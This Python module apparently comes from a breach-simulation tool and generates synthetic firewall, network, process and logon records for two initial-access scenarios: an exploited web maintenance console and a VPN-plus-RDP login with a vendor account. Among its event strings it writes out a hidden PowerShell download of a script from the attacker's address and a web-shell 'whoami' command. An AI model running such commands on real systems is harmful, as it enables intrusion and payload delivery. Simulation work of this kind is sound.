"""Initial access: an exploited console published to the internet, or a VPN login with a stolen account."""

from __future__ import annotations

from breachscope.simulate import clock
from breachscope.simulate.attack import IMAGE, WORK_A, Attack, StoryInputs
from breachscope.simulate.attack_file import ExposedConsoleExploit, VpnRdp


def exposed_console_exploit(w: Attack, p: ExposedConsoleExploit, _: StoryInputs) -> None:
    s, a, ext = w.s, w.host(p.host), w.spec.external
    src, public, port = ext.initial_access, ext.published_console, ext.published_port
    t = w.at(p.at)
    tag = "attack:initial_access"
    sport = w.port()
    cid = int(w.rng.integers(190_000_000, 199_000_000))
    s.asa(t, "6-302013", f"Built inbound TCP connection {cid} for outside:{src}/{sport} ({src}/{sport}) "
          f"to dmz:{a.ip}/{port} ({public}/{port})", tag)
    uid = s.conn(t + 5_000, src, sport, a.ip, port, "tcp", "ssl", 48.2, 18_400, 6_100, tag=tag)
    console = f"{w.net.spec.maintenance_console}.{w.fqdn}"
    s.ssl(t + 40_000, uid, src, sport, a.ip, port, console, tag)
    s.asa(t + 48 * clock.US, "6-302014", f"Teardown TCP connection {cid} for outside:{src}/{sport} to "
          f"dmz:{a.ip}/{port} duration 0:00:48 bytes 24500 TCP FINs from outside", tag)
    pool = w.spec.web_shell_user
    w.proc(t + 20 * clock.US, a.name, IMAGE["cmd"], "cmd.exe /c whoami", IMAGE["w3wp"], pool, tag)
    dl = f"cmd.exe /c powershell -nop -w hidden -c \"iwr http://{src}/u.ps1 -OutFile {WORK_A}\\u.ps1\""
    w.proc(t + 31 * clock.US, a.name, IMAGE["cmd"], dl, IMAGE["w3wp"], pool, tag)
    w.netconn(t + 33 * clock.US, a.name, IMAGE["ps"], pool, a.ip, w.port(), src, 80, "-", tag)
    w.file_created(t + 34 * clock.US, a.name, IMAGE["ps"], f"{WORK_A}\\u.ps1", pool, tag)
    w.note(t, "initial_access", f"exploit of the maintenance console of {w.called(a)} ({public}:{port}) "
           f"from {src}; web shell commands under the application pool")
    w.entered(a, t)


def vpn_rdp(w: Attack, p: VpnRdp, _: StoryInputs) -> None:
    s, b, ext = w.s, w.host(p.host), w.spec.external
    vendor, src, vpn = w.spec.vendor_account, ext.initial_access, ext.vpn_address
    t = w.at(p.at)
    tag = "attack:initial_access"
    s.asa(t, "6-113039", f"Group <VendorVPN> User <{vendor}> IP <{src}> AnyConnect parent session started.", tag)
    s.asa(t + 2 * clock.US, "4-722051", f"Group <VendorVPN> User <{vendor}> IP <{src}> IPv4 Address "
          f"<{vpn}> IPv6 address <::> assigned to session", tag)
    t1 = t + 40 * clock.US
    s.conn(t1, vpn, w.port(), b.ip, 3389, "tcp", "ssl", 3720.5, 2_400_000, 18_000_000, tag=tag)
    w.logon(t1 + 2 * clock.US, b.name, vendor, vpn, "10", tag, ntlm=False, workstation="VENDOR-PC")
    w.note(t, "initial_access", f"VPN login as {vendor} from {src}, RDP to {w.called(b)}")
    w.out.hosts["external"]["vpn_address"] = vpn
    w.entered(b, t)
